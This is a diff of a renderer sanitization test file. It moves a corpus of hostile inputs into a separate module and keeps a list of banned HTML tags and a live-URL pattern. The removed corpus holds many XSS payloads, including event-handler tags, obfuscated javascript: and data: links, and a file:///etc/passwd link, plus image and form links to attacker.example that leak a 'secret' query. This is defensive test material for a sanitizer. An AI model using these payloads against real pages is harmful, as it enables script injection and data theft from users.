@@ -8,55 +8,8 @@ import { readdirSync, readFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { afterEach, beforeEach, describe, expect, it } from 'vitest';
 import { browserSpeaks } from '../../i18n/catalogs.ts';
+import { HOSTILE } from './hostile-corpus.ts';
 import { manualFrames, renderAll, streamDeltas } from './helpers.ts';
-
-export const HOSTILE = [
-  '<img src=x onerror=alert(1)>',
-  'inline <img src=x onerror=alert(1)> here',
-  '<svg onload=alert(1)>',
-  '<iframe src="https://attacker.example/"></iframe>',
-  '<style>body{display:none}</style>',
-  '<script>alert(1)</script>',
-  '<form action="https://attacker.example/"><input name=q></form>',
-  '<base href="https://attacker.example/">',
-  '<meta http-equiv="refresh" content="0;url=https://attacker.example/">',
-  '<object data="https://attacker.example/x.swf"></object><embed src="https://attacker.example/x">',
-  '<a href="javascript:alert(1)" onclick="alert(1)">html link</a>',
-  '<img srcset="https://attacker.example/a.png 1x">',
-  '[x](javascript:alert(1))',
-  '[x](JaVaScRiPt:alert(1))',
-  '[x](&#106;avascript:alert(1))',
-  '[x](&#x6A;&#x61;vascript:alert(1))',
-  '[x](java&#x09;script:alert(1))',
-  '[x](javascript&colon;alert(1))',
-  '[x](%6Aavascript:alert(1))',
-  '[x](<javascript:alert(1)>)',
-  '[x]( javascript:alert(1))',
-  '<javascript:alert(1)>',
-  '[x](data:text/html,<script>alert(1)</script>)',
-  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
-  '[x](vbscript:msgbox(1))',
-  '[x](file:///etc/passwd)',
-  '[x](/relative/path)',
-  '![x](https://attacker.example/?q=secret)',
-  '![x](http://attacker.example/leak.png "title")',
-  '![x](data:image/png;base64,iVBORw0KGgo=)',
-  '![x](javascript:alert(1))',
-  '![ref image][img]\n\n[img]: https://attacker.example/ref.png',
-  '[img]: https://attacker.example/ref.png\n\n![ref image][img] and ![img]',
-  '[lnk]: javascript:alert(1)\n\n[ref link][lnk]',
-  '<https://attacker.example/auto.png>',
-  '![a [nested](javascript:alert(1)) link](https://attacker.example/alt.png)',
-  '[![inner](https://attacker.example/in.png)](https://ok.example/)',
-  '[![inner](https://attacker.example/in.png)](javascript:alert(1))',
-  '[a](https://ok.example/ "title onmouseover=alert(1)")',
-  '`<img src=x onerror=alert(1)>`',
-  '```html\n<img src=x onerror=alert(1)>\n<script>alert(1)</script>\n```',
-  '| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |\n|---|---|\n| ![i](https://attacker.example/t.png) | <svg onload=alert(1)> |',
-  '- [ ] <input onfocus=alert(1) autofocus>',
-  '> <iframe srcdoc="<script>alert(1)</script>"></iframe>',
-  '<div onclick="alert(1)">\n\n**md inside html**\n\n</div>',
-].join('\n\n');
 
 const BANNED = 'script, style, iframe, object, embed, form, base, meta, img, svg, link, frame, frameset, audio, video, source';
 const LIVE = /^(https?:|mailto:)/i;
